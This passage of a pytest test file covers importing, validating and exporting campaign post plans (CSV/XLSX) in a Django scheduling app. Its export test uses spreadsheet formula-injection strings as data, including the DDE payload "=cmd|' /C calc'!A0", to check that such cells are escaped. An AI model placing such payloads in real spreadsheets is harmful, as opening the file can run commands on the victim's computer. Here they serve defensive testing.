"""Campaign plans: reading files, checking rows, previewing, importing all or nothing, exporting."""

import codecs
import csv
import datetime as dt
import io
from collections.abc import Iterator
from typing import Any

import pytest
import time_machine
from django.db import DatabaseError, connection
from django.test.utils import CaptureQueriesContext
from openpyxl import Workbook, load_workbook

from audit.erasure import Opener, key_erase
from audit.models import AuditEvent, ErasureKey
from audit.selectors import chain_verify, events_for_object
from plans import reading
from plans.exporting import XLSX, plan_export, posts_for_plan_export
from plans.importing import (
    CREATED,
    ERROR,
    UNCHANGED,
    UPDATED,
    PlanInvalid,
    PlanOptions,
    plan_commit,
    plan_preview,
)
from plans.reading import PlanFileError, cell_escape, cell_unescape, decode, read_lines, sniff_delimiter
from plans.rows import COLUMNS
from posts.content import content_snapshot
from posts.erasure import post_owner
from posts.models import Campaign, Post, PostStatus, PostTarget, Revision
from posts.services import PostDraft, TargetSpec, post_create, posts_create_many
from tests.conftest import CSV, make_user

pytestmark = pytest.mark.django_db

# Before every date in the fixtures (2027), so the tests keep working after them.
NOW = dt.datetime(2026, 11, 2, 9, 0, tzinfo=dt.UTC)


@pytest.fixture
def plan_clock() -> Iterator[None]:
    with time_machine.travel(NOW, tick=True):
        yield


@pytest.fixture
def plan_accounts(account_factory: Any) -> list[Any]:
    """The five accounts fixtures/csv/README.md names."""
    return [
        account_factory("instagram", name="Klinikum Nord Instagram", handle="@klinikum_nord"),
        account_factory("facebook", name="Klinikum Nord", handle="klinikum.nord"),
        account_factory("linkedin", name="Klinikum Nord Karriere", handle="klinikum-nord-karriere"),
        account_factory("x", name="Northside on X", handle="@northside_health"),
        account_factory("facebook", name="Northside Health", handle="northsidehealth"),
    ]


def plan_row(**cells: str) -> dict[str, str]:
    row = {
        "campaign": "Herzwochen 2027",
        "date": "2027-03-01",
        "time": "09:30",
        "timezone": "Europe/Berlin",
        "accounts": "@klinikum_nord",
        "title": "Kick-off",
        "body": "Vom 1. bis 14. März dreht sich alles ums Herz.",
        "link": "https://example.org/herzwochen",
        "hashtags": "#Herzgesundheit",
        "content_type": "education",
        "language": "de",
        "external_id": "HW-001",
    }
    row.update(cells)
    return row


def plan_bytes(*rows: dict[str, str], delimiter: str = ",", columns: tuple[str, ...] = COLUMNS) -> bytes:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow(columns)
    for row in rows:
        writer.writerow([row.get(column, "") for column in columns])
    return buffer.getvalue().encode("utf-8")


def only_error(preview: Any) -> tuple[int | None, str, str]:
    errors = preview.errors
    assert len(errors) == 1, [error.line() for error in errors]
    return errors[0].row, errors[0].column, errors[0].message


# Reading -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        "campaign,body\nHerz,Grüße – ok\n".encode(),
        codecs.BOM_UTF8 + "campaign,body\nHerz,Grüße – ok\n".encode(),
        "campaign,body\nHerz,Grüße – ok\n".encode("utf-16"),
        "campaign,body\nHerz,Grüße – ok\n".encode("utf-16-le"),
        "campaign,body\nHerz,Grüße – ok\n".encode("cp1252"),
    ],
    ids=["utf8", "utf8-bom", "utf16-bom", "utf16-le-no-bom", "cp1252"],
)
def test_decode_accepts_the_encodings_excel_writes(data: bytes) -> None:
    assert decode(data) == "campaign,body\nHerz,Grüße – ok\n"


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_delimiter_is_detected_from_the_header(delimiter: str) -> None:
    text = delimiter.join(["campaign", "date", '"a, b; c"']) + "\r\nx"
    assert sniff_delimiter(text) == delimiter


def test_cells_starting_like_formulas_round_trip_through_escaping() -> None:
    for value in ["=SUM(A1)", "+49 30", "-5 kg", "@klinikum", "\tx", "'quoted", "''", "plain", "it's"]:
        escaped = cell_escape(value)
        assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert cell_unescape(escaped) == value
    assert cell_unescape("'hello") == "'hello"  # the user's own apostrophe stays


def test_rows_are_numbered_as_a_spreadsheet_shows_them() -> None:
    data = b'campaign,body\n\nA,"two\nlines"\nB,x\n'
    lines = read_lines(data)
    assert [(line.number, line.cells) for line in lines] == [
        (1, ["campaign", "body"]),
        (3, ["A", "two\nlines"]),
        (4, ["B", "x"]),
    ]


def test_file_over_the_size_limit_is_refused(monkeypatch: Any) -> None:
    monkeypatch.setattr(reading, "MAX_BYTES", 100)
    with pytest.raises(PlanFileError, match="larger than"):
        read_lines(b"campaign,body\n" + b"x,y\n" * 40)


def test_plan_over_the_row_limit_is_refused(monkeypatch: Any) -> None:
    monkeypatch.setattr(reading, "MAX_ROWS", 3)
    read_lines(b"campaign,body\n" + b"x,y\n" * 3)
    with pytest.raises(PlanFileError, match="more than 3 rows"):
        read_lines(b"campaign,body\n" + b"x,y\n" * 4)


def test_xlsx_cells_become_the_texts_a_plan_expects() -> None:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Campaign", "Date", "Time", "External ID"])
    sheet.append(["Herz", dt.datetime(2027, 3, 1), dt.time(9, 30), 1001])
    buffer = io.BytesIO()
    workbook.save(buffer)
    lines = read_lines(buffer.getvalue())
    assert lines[1].cells == ["Herz", "2027-03-01", "09:30", "1001"]


# Rows ----------------------------------------------------------------------------------------


def test_header_names_ignore_case_and_spaces_and_other_columns_are_ignored(
    editor: Any, plan_accounts: list[Any], plan_clock: None
) -> None:
    row = plan_row()
    data = plan_bytes(row).replace(b"content_type", b"Content Type").replace(b"external_id", b" External-ID ")
    data = data.replace(b"campaign,", b"Notes,CAMPAIGN,", 1).replace(b"\nHerz", b"\nmine,Herz")
    preview = plan_preview(data=data, actor=editor)
    assert preview.ok, [error.line() for error in preview.errors]
    assert [row.outcome for row in preview.rows] == [CREATED]


def test_missing_required_column_is_reported_on_the_header_row(editor: Any, plan_accounts: list[Any]) -> None:
    data = plan_bytes(plan_row(), columns=tuple(column for column in COLUMNS if column != "body"))
    assert only_error(plan_preview(data=data, actor=editor))[:2] == (1, "body")


@pytest.mark.parametrize(
    ("cells", "column", "fragment"),
    [
        ({"date": "2027-03-28", "time": "02:30"}, "time", "does not exist"),
        ({"date": "2027-10-31", "time": "02:30"}, "time", "happens twice"),
        ({"date": "2027-10-31", "time": "02:30+03:00"}, "time", "is not the offset"),
        ({"date": "01/03/2027"}, "date", "is not a date"),
        ({"accounts": "Klinikum Nord;@nobody"}, "accounts", "not a known account"),
        ({"accounts": ""}, "accounts", "at least one account"),
        ({"hashtags": "#ok #not-ok"}, "hashtags", "not a hashtag"),
        ({"link": "ftp://example.org/x"}, "link", "http"),
        ({"content_type": "advert"}, "content_type", "not a content type"),
        ({"language": "deutsch"}, "language", "not a language"),
        ({"campaign": ""}, "campaign", "campaign"),
        ({"date": "2026-10-01"}, "date", "in the past"),
    ],
)
def test_a_bad_cell_is_reported_at_its_row_and_column(
    editor: Any, plan_accounts: list[Any], plan_clock: None, cells: dict[str, str], column: str, fragment: str
) -> None:
    data = plan_bytes(plan_row(external_id="OK-1"), plan_row(external_id="BAD-1", **cells))
    row, found_column, message = only_error(plan_preview(data=data, actor=editor))
    assert (row, found_column) == (3, column)
    assert fragment in message


def test_ambiguous_autumn_time_with_its_offset_is_that_moment(
    editor: Any, plan_accounts: list[Any], plan_clock: None
) -> None:
    data = plan_bytes(
        plan_row(date="2027-10-31", time="02:30+01:00"),
        plan_row(date="2027-10-31", time="02:30+02:00", external_id="HW-002"),
    )
    plan_commit(data=data, file_name="dst.csv", actor=editor)
    moments = list(Post.objects.order_by("external_id").values_list("scheduled_at", flat=True))
    assert moments == [dt.datetime(2027, 10, 31, 1, 30, tzinfo=dt.UTC), dt.datetime(2027, 10, 31, 0, 30, tzinfo=dt.UTC)]


def test_german_dates_and_default_zone_are_the_importers(
    editor: Any, plan_accounts: list[Any], plan_clock: None
) -> None:
    editor.time_zone = "America/New_York"
    editor.save()
    plan_commit(data=plan_bytes(plan_row(date="05.10.2027", timezone="")), file_name="de.csv", actor=editor)
    post = Post.objects.get()
    assert post.time_zone == "America/New_York"
    assert post.scheduled_at == dt.datetime(2027, 10, 5, 13, 30, tzinfo=dt.UTC)


def test_accounts_by_handle_or_name_and_ambiguous_ones_need_the_platform(
    editor: Any, plan_accounts: list[Any], account_factory: Any, plan_clock: None
) -> None:
    account_factory("x", name="Klinikum Nord X", handle="@klinikum_nord")
    preview = plan_preview(data=plan_bytes(plan_row(accounts="@klinikum_nord")), actor=editor)
    assert only_error(preview)[1] == "accounts" and "several accounts" in only_error(preview)[2]
    plan_commit(
        data=plan_bytes(plan_row(accounts="instagram:@klinikum_nord | Klinikum Nord | klinikum.nord")),
        file_name="p.csv",
        actor=editor,
    )
    post = Post.objects.get()
    assert sorted(target.account.name for target in post.targets.all()) == ["Klinikum Nord", "Klinikum Nord Instagram"]


def test_inactive_account_is_an_error(editor: Any, plan_accounts: list[Any], plan_clock: None) -> None:
    plan_accounts[0].active = False
    plan_accounts[0].save()
    assert "not active" in only_error(plan_preview(data=plan_bytes(plan_row()), actor=editor))[2]


def test_hashtags_are_normalised(editor: Any, plan_accounts: list[Any], plan_clock: None) -> None:
    plan_commit(data=plan_bytes(plan_row(hashtags="#Herz; Bewegung, #herz ＃Sport")), file_name="p.csv", actor=editor)
    assert Post.objects.get().hashtags == ["Herz", "Bewegung", "Sport"]


def test_duplicate_external_ids_in_a_file_are_errors(editor: Any, plan_accounts: list[Any], plan_clock: None) -> None:
    preview = plan_preview(data=plan_bytes(plan_row(), plan_row(time="10:00")), actor=editor)
    row, column, message = only_error(preview)
    assert (row, column) == (3, "external_id") and "row 2" in message


# Importing -----------------------------------------------------------------------------------


def test_import_creates_drafts_with_revisions_campaigns_and_the_file_in_the_audit_trail(
    editor: Any, plan_accounts: list[Any], plan_clock: None
) -> None:
    data = (CSV / "plan_native_utf8.csv").read_bytes()
    preview = plan_commit(data=data, file_name="plan_native_utf8.csv", actor=editor)
    assert preview.counts == {CREATED: 5, UPDATED: 0, UNCHANGED: 0, ERROR: 0}
    assert sorted(Campaign.objects.values_list("name", flat=True)) == ["Flu season 2027", "Herzwochen 2027"]
    herz = Campaign.objects.get(name="Herzwochen 2027")
    assert (herz.owner, herz.start_date, herz.end_date) == (editor, dt.date(2027, 3, 1), dt.date(2027, 3, 3))
    posts = Post.objects.order_by("external_id")
    assert {post.status for post in posts} == {PostStatus.DRAFT}
    for post in posts:
        assert post.author == editor
        assert post.current_revision.number == 1
        assert post.current_revision.content_hash == post.content_hash
        assert post.current_revision.content == content_snapshot(post)
    sha256 = reading.file_sha256(data)
    imported = AuditEvent.objects.get(action="plan.imported")
    assert imported.actor == editor
    assert imported.changes["file"] == "plan_native_utf8.csv" and imported.changes["sha256"] == sha256
    assert (imported.changes["created"], imported.changes["updated"]) == (5, 0)
    created = [e for e in events_for_object(obj=posts[0]) if e.action == "post.created"]
    assert created[0].changes["source"] == {"file": "plan_native_utf8.csv", "sha256": sha256}
    assert [e.action for e in events_for_object(obj=posts[0])] == ["post.created", "post.revision_created"]
    assert chain_verify() is None


def test_bad_rows_write_nothing_at_all(editor: Any, plan_accounts: list[Any], plan_clock: None) -> None:
    events = AuditEvent.objects.count()
    with pytest.raises(PlanInvalid) as caught:
        plan_commit(data=(CSV / "plan_bad_rows.csv").read_bytes(), file_name="bad.csv", actor=editor)
    assert [(error.row, error.column) for error in caught.value.preview.errors] == [
        (2, "date"),
        (3, "time"),
        (4, "timezone"),
        (5, "accounts"),
        (6, "body"),
        (7, "link"),
    ]
    assert caught.value.preview.rows[-1].outcome == CREATED  # the good row would have been created
    assert (Post.objects.count(), Campaign.objects.count(), AuditEvent.objects.count()) == (0, 0, events)


def test_reimporting_the_same_file_changes_nothing(editor: Any, plan_accounts: list[Any], plan_clock: None) -> None:
    data = (CSV / "plan_excel_de_cp1252_semicolon.csv").read_bytes()
    plan_commit(data=data, file_name="de.csv", actor=editor)
    events = AuditEvent.objects.count()
    revisions = Revision.objects.count()
    preview = plan_commit(data=data, file_name="de.csv", actor=editor)
    assert [row.outcome for row in preview.rows] == [UNCHANGED] * 3
    assert (AuditEvent.objects.count(), Revision.objects.count()) == (events, revisions)


def test_changed_row_updates_its_post_and_keeps_per_account_texts(
    editor: Any, plan_accounts: list[Any], plan_clock: None
) -> None:
    plan_commit(data=plan_bytes(plan_row(accounts="@klinikum_nord;Klinikum Nord")), file_name="p.csv", actor=editor)
    post = Post.objects.get()
    target = post.targets.get(account=plan_accounts[0])
    target.body_override = "Nur auf Instagram"
    target.save()
    changed = plan_row(accounts="@klinikum_nord", title="Neuer Titel", time="10:00")
    preview = plan_commit(data=plan_bytes(changed), file_name="p2.csv", actor=editor)
    assert [row.outcome for row in preview.rows] == [UPDATED]
    post.refresh_from_db()
    assert post.title == "Neuer Titel"
    assert post.scheduled_at == dt.datetime(2027, 3, 1, 9, 0, tzinfo=dt.UTC)
    assert [(t.account, t.body_override) for t in post.targets.all()] == [(plan_accounts[0], "Nur auf Instagram")]
    assert AuditEvent.objects.filter(action="plan.imported").count() == 2


def test_content_change_of_a_post_in_review_makes_a_new_revision_and_restarts_review(
    editor: Any, plan_accounts: list[Any], plan_clock: None
) -> None:
    from approvals.models import ReviewRound
    from approvals.services import round_submit

    plan_commit(data=plan_bytes(plan_row()), file_name="p.csv", actor=editor)
    post = Post.objects.get()
    round_submit(post=post, actor=editor)
    changed = plan_bytes(plan_row(body="Neuer Text für alle."))
    preview = plan_preview(data=changed, actor=editor)
    assert preview.rows[0].outcome == UPDATED
    assert "review starts again" in preview.rows[0].notes[0]
    plan_commit(data=changed, file_name="p2.csv", actor=editor)
    post.refresh_from_db()
    assert post.current_revision.number == 2
    assert post.status == PostStatus.IN_REVIEW
    rounds = list(ReviewRound.objects.filter(post=post).order_by("pk").values_list("status", "content_hash"))
    assert rounds[0][0] == "superseded" and rounds[-1] == ("in_progress", post.content_hash)


def test_a_commit_after_its_preview_checks_the_database_and_the_clock_again(
    editor: Any, plan_accounts: list[Any], campaign_factory: Any
) -> None:
    data = plan_bytes(plan_row(), plan_row(external_id="HW-002", time="10:00"))
    # An account switched off after the preview: the rows are read again.
    with time_machine.travel(NOW, tick=False):
        assert plan_preview(data=data, actor=editor).ok
        plan_accounts[0].active = False
        plan_accounts[0].save()
        with pytest.raises(PlanInvalid) as caught:
            plan_commit(data=data, file_name="p.csv", actor=editor)
    assert [(e.row, e.column) for e in caught.value.preview.errors] == [(2, "accounts"), (3, "accounts")]
    plan_accounts[0].active = True
    plan_accounts[0].save()
    # A post that took one of the plan's ids after the preview, in another campaign.
    with time_machine.travel(NOW, tick=False):
        assert plan_preview(data=data, actor=editor).ok
        other = campaign_factory(editor, name="Other")
        post_create(actor=editor, campaign=other, data={"body": "Taken"}, external_id="HW-002")
        with pytest.raises(PlanInvalid) as caught:
            plan_commit(data=data, file_name="p.csv", actor=editor)
    assert only_error(caught.value.preview)[:2] == (3, "campaign")
    # The rows' time passed between preview and commit.
    data = plan_bytes(plan_row(external_id="HW-101"), plan_row(external_id="HW-102", time="10:00"))
    with time_machine.travel(NOW, tick=False):
        assert plan_preview(data=data, actor=editor).ok
    with time_machine.travel(dt.datetime(2027, 3, 2, tzinfo=dt.UTC), tick=False), pytest.raises(PlanInvalid) as caught:
        plan_commit(data=data, file_name="p.csv", actor=editor)
    assert [(e.row, e.column) for e in caught.value.preview.errors] == [(2, "date"), (3, "date")]
    assert Post.objects.filter(campaign__name="Herzwochen 2027").count() == 0


def test_a_commit_after_its_preview_reads_the_importers_zone_and_language_anew(
    editor: Any, plan_accounts: list[Any], plan_clock: None
) -> None:
    from django.utils import translation

    data = plan_bytes(plan_row(timezone=""), plan_row(external_id="HW-2", timezone="", link="ftp://x"))
    with translation.override("en"):
        assert "web address" in only_error(plan_preview(data=data, actor=editor))[2]
    with translation.override("de"), pytest.raises(PlanInvalid) as caught:
        plan_commit(data=data, file_name="p.csv", actor=editor)
    assert "web address" not in only_error(caught.value.preview)[2]  # said in German this time
    data = plan_bytes(plan_row(timezone=""))
    assert plan_preview(data=data, actor=editor).ok
    editor.time_zone = "America/New_York"
    editor.save()
    plan_commit(data=data, file_name="p.csv", actor=editor)
    assert Post.objects.get().scheduled_at == dt.datetime(2027, 3, 1, 14, 30, tzinfo=dt.UTC)


def test_the_previewed_file_is_kept_for_its_commit_only(
    editor: Any, plan_accounts: list[Any], plan_clock: None
) -> None:
    from plans import importing

    data = plan_bytes(plan_row())
    plan_preview(data=data, actor=editor)
    assert [len(parsed.rows) for parsed in importing._kept] == [1]
    plan_commit(data=data, file_name="p.csv", actor=editor)
    assert importing._kept == []  # let go once imported
    assert Post.objects.count() == 1


def test_the_cycle_collector_runs_again_after_an_import_as_it_did_before(
    editor: Any, plan_accounts: list[Any], plan_clock: None
) -> None:
    import gc

    plan_preview(data=plan_bytes(plan_row()), actor=editor)
    assert gc.isenabled()
    with pytest.raises(PlanInvalid):
        plan_commit(data=plan_bytes(plan_row(body="")), file_name="p.csv", actor=editor)
    assert gc.isenabled()
    gc.disable()
    try:
        plan_commit(data=plan_bytes(plan_row()), file_name="p.csv", actor=editor)
        assert not gc.isenabled()
    finally:
        gc.enable()


def test_unchanged_rows_of_an_exported_plan_may_lie_in_the_past(editor: Any, plan_accounts: list[Any]) -> None:
    with time_machine.travel(NOW, tick=False):
        plan_commit(data=(CSV / "plan_native_utf8.csv").read_bytes(), file_name="p.csv", actor=editor)
        exported = plan_export(posts=posts_for_plan_export())
    with time_machine.travel(dt.datetime(2027, 3, 10, tzinfo=dt.UTC), tick=False):
        assert [row.outcome for row in plan_preview(data=exported, actor=editor).rows] == [UNCHANGED] * 5
        moved = exported.replace(b"2027-03-02,12:00", b"2027-03-02,13:00")
        row, column, message = only_error(plan_preview(data=moved, actor=editor))
        assert (row, column) == (3, "date") and "in the past" in message


def test_a_plan_may_not_create_campaigns_without_the_right(
    plan_accounts: list[Any], editor: Any, campaign_factory: Any, plan_clock: None
) -> None:
    from people import roles

    campaign_factory(editor, name="Herzwochen 2027")
    outsider = make_user("outsider", roles.EDITOR)
    _row, column, message = only_error(plan_preview(data=plan_bytes(plan_row()), actor=outsider))
    # Another team's campaign reads as unknown: the message names only what the plan said.
    assert (column, message) == ("campaign", "Unknown campaign “Herzwochen 2027”.")
    viewer = make_user("plain_viewer", roles.VIEWER)
    preview = plan_preview(data=plan_bytes(plan_row(campaign="Brand new")), actor=viewer)
    assert only_error(preview)[1] == "campaign"


def test_a_plan_never_names_another_teams_campaign(
    plan_accounts: list[Any], editor: Any, campaign_factory: Any, plan_clock: None
) -> None:
    """Issue 13: plan-import errors revealed other campaigns' names (by case-folded match or a post's id)."""
    from people import roles

    campaign_factory(editor, name="Kinderklinik – Spendenaktion intern")
    plan_commit(
        data=plan_bytes(plan_row(campaign="Kinderklinik – Spendenaktion intern", external_id="KK-7")),
        file_name="p.csv",
        actor=editor,
    )
    outsider = make_user("outsider", roles.EDITOR)
    campaign_factory(outsider, name="Herzwochen 2027")

    guessed = plan_preview(data=plan_bytes(plan_row(campaign="KINDERKLINIK – spendenaktion INTERN")), actor=outsider)
    assert only_error(guessed)[1:] == ("campaign", "Unknown campaign “KINDERKLINIK – spendenaktion INTERN”.")
    by_id = plan_preview(data=plan_bytes(plan_row(external_id="KK-7")), actor=outsider)
    _row, column, message = only_error(by_id)
    assert (column, message) == ("external_id", "Unknown post “KK-7”.")
    assert all("Kinderklinik" not in error.message for error in guessed.errors + by_id.errors)


def test_existing_campaign_is_found_whatever_its_case(
    editor: Any, plan_accounts: list[Any], campaign_factory: Any, plan_clock: None
) -> None:
    campaign = campaign_factory(editor, name="Herzwochen 2027")
    plan_commit(data=plan_bytes(plan_row(campaign="HERZWOCHEN 2027")), file_name="p.csv", actor=editor)
    assert Post.objects.get().campaign == campaign
    assert Campaign.objects.count() == 1


# Hootsuite -----------------------------------------------------------------------------------


def test_hootsuite_file_goes_to_the_chosen_campaign_and_accounts(
    editor: Any, plan_accounts: list[Any], plan_clock: None
) -> None:
    options = PlanOptions(hootsuite="dmy", campaign="Flu 2027", accounts=("@northside_health", "Northside Health"))
    data = (CSV / "hootsuite_bulk_dmy.csv").read_bytes()
    preview = plan_commit(data=data, file_name="hoot.csv", actor=editor, options=options)
    assert preview.counts[CREATED] == 3
    posts = list(Post.objects.order_by("scheduled_at"))
    assert posts[0].scheduled_at == dt.datetime(2027, 10, 5, 6, 0, tzinfo=dt.UTC)  # 08:00 in Berlin
    assert posts[0].link == "https://example.org/flu" and posts[1].link == ""
    assert {p.campaign.name for p in posts} == {"Flu 2027"}
    assert {t.account.name for t in posts[0].targets.all()} == {"Northside on X", "Northside Health"}
    again = plan_commit(data=data, file_name="hoot.csv", actor=editor, options=options)
    assert [row.outcome for row in again.rows] == [UNCHANGED] * 3
    mdy = plan_preview(data=data, actor=editor, options=PlanOptions("mdy", "Flu 2027", ("@northside_health",)))
    assert mdy.rows[0].when == "2027-05-10 08:00 Europe/Berlin"  # month first: 10 May
    bad = plan_preview(data=b"13/25/2027 08:00,Hello\n", actor=editor, options=options)
    assert [(e.row, e.column) for e in bad.errors] == [(1, "date")]


def test_hootsuite_needs_its_choices(editor: Any, plan_accounts: list[Any]) -> None:
    preview = plan_preview(
        data=(CSV / "hootsuite_bulk_dmy.csv").read_bytes(), actor=editor, options=PlanOptions(hootsuite="dmy")
    )
    assert {(error.row, error.column) for error in preview.errors} == {(None, "campaign"), (None, "accounts")}


# Exporting -----------------------------------------------------------------------------------


def test_export_escapes_formula_cells_and_reimports_unchanged(
    editor: Any, plan_accounts: list[Any], plan_clock: None
) -> None:
    rows = [
        plan_row(external_id="=1+1", title="+49 30 1234", body="-5 kg in 5 Wochen? @Klinik =HYPERLINK()"),
        plan_row(external_id="E-2", time="11:00", title="@home", body="=cmd|' /C calc'!A0"),
        plan_row(external_id="E-3", time="12:00", title="'quoted'", body="\tTab first", hashtags=""),
    ]
    plan_commit(data=plan_bytes(*rows), file_name="p.csv", actor=editor)
    exported = plan_export(posts=posts_for_plan_export())
    cells = [cell for row in csv.reader(io.StringIO(exported.decode("utf-8-sig"))) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'=cmd|' /C calc'!A0" in cells
    assert [row.outcome for row in plan_preview(data=exported, actor=editor).rows] == [UNCHANGED] * 3


def test_xlsx_export_reimports_unchanged_with_ambiguous_times_carrying_their_offset(
    editor: Any, plan_accounts: list[Any], plan_clock: None
) -> None:
    data = plan_bytes(
        plan_row(date="2027-10-31", time="02:30+01:00"),
        plan_row(external_id="HW-2", date="2027-10-31", time="02:30+02:00"),
        plan_row(external_id="HW-3", timezone="America/New_York", body="=2+2"),
    )
    plan_commit(data=data, file_name="p.csv", actor=editor)
    exported = plan_export(posts=posts_for_plan_export(), file_format=XLSX)
    sheet = load_workbook(io.BytesIO(exported)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == list(COLUMNS)
    assert {row[2] for row in values[1:]} == {"02:30+01:00", "02:30+02:00", "09:30"}
    assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row if cell.value)
    assert [row.outcome for row in plan_preview(data=exported, actor=editor).rows] == [UNCHANGED] * 3


# The bulk service ----------------------------------------------------------------------------


def test_posts_create_many_matches_post_create_in_a_fixed_number_of_queries(
    editor: Any, campaign: Any, accounts: list[Any]
) -> None:
    when = dt.datetime(2030, 1, 1, 9, tzinfo=dt.UTC)

    def drafts(n: int, prefix: str) -> list[PostDraft]:
        return [
            PostDraft(
                data={"body": f"Post {i}", "hashtags": ["#A", "b"]},
                targets=[TargetSpec(account=accounts[i % 3]), TargetSpec(account=accounts[(i + 1) % 3])],
                scheduled_at=when,
                time_zone="Europe/Berlin",
                external_id=f"{prefix}-{i}",
            )
            for i in range(n)
        ]

    posts_create_many(actor=editor, campaign=campaign, drafts=drafts(1, "warm"))  # fills the content-type cache
    with CaptureQueriesContext(connection) as one:
        posts_create_many(actor=editor, campaign=campaign, drafts=drafts(1, "one"))
    # 30 posts make 60 audit events: one insert batch even where SQLite allows only 999 parameters.
    with CaptureQueriesContext(connection) as fifty:
        posts = posts_create_many(actor=editor, campaign=campaign, drafts=drafts(30, "thirty"))
    assert len(fifty) == len(one), "\n".join(q["sql"][:70] for q in fifty.captured_queries)
    post = Post.objects.get(pk=posts[7].pk)
    assert post.hashtags == ["A", "b"]
    assert post.current_revision.content == content_snapshot(post)
    assert [e.action for e in events_for_object(obj=post)] == ["post.created", "post.revision_created"]
    assert chain_verify() is None
    # Both events seal the title under the post's own new key; erasing it shreds both, and no other post's.
    events = [e for p in (posts[7], posts[8]) for e in events_for_object(obj=p)]
    opener = Opener()
    opener.preload(events)
    assert [opener.repr(e) for e in events] == ["Post 7"] * 2 + ["Post 8"] * 2
    key_erase(owners=[post_owner(posts[7].pk)], actor_repr="dpo")
    events = [AuditEvent.objects.get(pk=e.pk) for e in events]
    opener = Opener()
    opener.preload(events)
    shown = [opener.repr(e) for e in events]
    assert "Post 7" not in shown[0] and shown[0] == shown[1] and shown[0].startswith("erased")
    assert shown[2:] == ["Post 8"] * 2


@pytest.mark.slow  # the smaller imports above and the 30-post batch check the same in make test
def test_a_2500_row_plan_creates_exactly_its_posts_targets_revisions_and_events(
    editor: Any, plan_accounts: list[Any], plan_clock: None
) -> None:
    handles = [account.handle for account in plan_accounts]
    rows = [
        plan_row(
            campaign=f"Bulk {i % 3}",
            date=(dt.date(2027, 4, 1) + dt.timedelta(days=i % 200)).isoformat(),
            time=f"{8 + i % 10:02d}:{i % 60:02d}",
            accounts=";".join(handles[i % 5 : i % 5 + 1 + i % 2]),
            title=f"Row {i}",
            body=f"Text {i}",
            link=f"https://example.org/{i}",
            external_id=f"B-{i:04d}",
        )
        for i in range(2500)
    ]
    expected_targets = {row["external_id"]: set(row["accounts"].split(";")) for row in rows}
    data = plan_bytes(*rows)
    last_seq = AuditEvent.objects.order_by("-seq").values_list("seq", flat=True).first() or 0

    assert plan_commit(data=data, file_name="bulk.csv", actor=editor).counts[CREATED] == 2500

    posts = {post.pk: post for post in Post.objects.select_related("current_revision").prefetch_related("targets")}
    assert sorted(post.external_id for post in posts.values()) == sorted(expected_targets)
    assert Revision.objects.count() == 2500
    handles_of = {account.pk: account.handle for account in plan_accounts}
    for post in posts.values():
        assert post.title == f"Row {int(post.external_id[2:])}" and post.body == f"Text {int(post.external_id[2:])}"
        assert (post.current_revision.post_id, post.current_revision.number) == (post.pk, 1)
        assert {handles_of[target.account_id] for target in post.targets.all()} == expected_targets[post.external_id]
    for post in list(posts.values())[::499]:
        assert post.current_revision.content == content_snapshot(post)
    events = list(AuditEvent.objects.filter(seq__gt=last_seq).order_by("seq"))
    actions = [event.action for event in events]
    assert (actions.count("post.created"), actions.count("post.revision_created")) == (2500, 2500)
    assert (actions.count("campaign.created"), actions[-1], len(events)) == (3, "plan.imported", 5004)
    created = {int(e.object_id): e for e in events if e.action == "post.created"}
    revised = {int(e.object_id): e for e in events if e.action == "post.revision_created"}
    assert set(created) == set(revised) == set(posts)
    sha256 = reading.file_sha256(data)
    opener = Opener()
    opener.preload(events)
    for pk, post in posts.items():
        # The title is sealed under the post's erasure key (docs/erasure.md); the trail shows it opened.
        assert created[pk].actor == editor and opener.repr(created[pk]) == post.title
        assert created[pk].changes["source"] == {"file": "bulk.csv", "sha256": sha256}
        assert created[pk].changes["scheduled_at"] == post.scheduled_at.isoformat().replace("+00:00", "Z")
        assert revised[pk].content_hash == post.current_revision.content_hash == post.content_hash
        assert created[pk].seq + 1 == revised[pk].seq
    assert chain_verify() is None


def test_preview_queries_do_not_grow_with_rows(editor: Any, plan_accounts: list[Any], plan_clock: None) -> None:
    def queries(n: int) -> int:
        rows = [plan_row(external_id=f"Q-{n}-{i}", time=f"{8 + i % 10:02d}:{i % 60:02d}") for i in range(n)]
        with CaptureQueriesContext(connection) as captured:
            assert plan_preview(data=plan_bytes(*rows), actor=editor).ok
        return len(captured)

    queries(2)  # the user's permissions are cached after the first look
    assert queries(1) == queries(50)


def bulk_rows(n: int, prefix: str, campaign: str = "Herzwochen 2027") -> list[dict[str, str]]:
    """Return ``n`` good rows as hospitals write them, each at its own minute, for one campaign."""
    return [
        plan_row(
            campaign=campaign,
            date=(dt.date(2027, 4, 1) + dt.timedelta(days=i % 200)).isoformat(),
            time=f"{8 + i % 10:02d}:{i % 60:02d}",
            accounts="@klinikum_nord;klinikum.nord" if i % 2 else "@northside_health",
            title=f"Herzwoche Tag {i} 💓",
            body=f"Tag {i}: Blutdruck messen lassen – Tel. 040 1234-{i:04d}, Station Süd, ‏مرحبا.",
            external_id=f"{prefix}-{i:04d}",
        )
        for i in range(n)
    ]


def written() -> tuple[int, ...]:
    """Return how many rows every table an import writes holds."""
    return (
        Campaign.objects.count(),
        Post.objects.count(),
        PostTarget.objects.count(),
        Revision.objects.count(),
        ErasureKey.objects.count(),
        AuditEvent.objects.count(),
    )


def test_commit_queries_do_not_grow_with_rows(
    editor: Any, campaign_factory: Any, plan_accounts: list[Any], plan_clock: None
) -> None:
    campaign_factory(editor, name="Herzwochen 2027")

    def queries(n: int, prefix: str) -> int:
        data = plan_bytes(*bulk_rows(n, prefix))
        with CaptureQueriesContext(connection) as captured:
            assert plan_commit(data=data, file_name=f"{prefix}.csv", actor=editor).counts[CREATED] == n
        return len(captured)

    queries(2, "warm")  # the user's permissions and the content types are cached after the first import
    fifty, five_hundred = queries(50, "fifty"), queries(500, "five-hundred")
    assert fifty == five_hundred
    assert Post.objects.count() == 552 and Revision.objects.count() == 552
    assert chain_verify() is None


def test_a_bad_row_in_the_middle_of_a_large_plan_writes_nothing_and_records_no_event(
    editor: Any, campaign_factory: Any, plan_accounts: list[Any], plan_clock: None
) -> None:
    campaign_factory(editor, name="Herzwochen 2027")
    rows = bulk_rows(300, "mid")
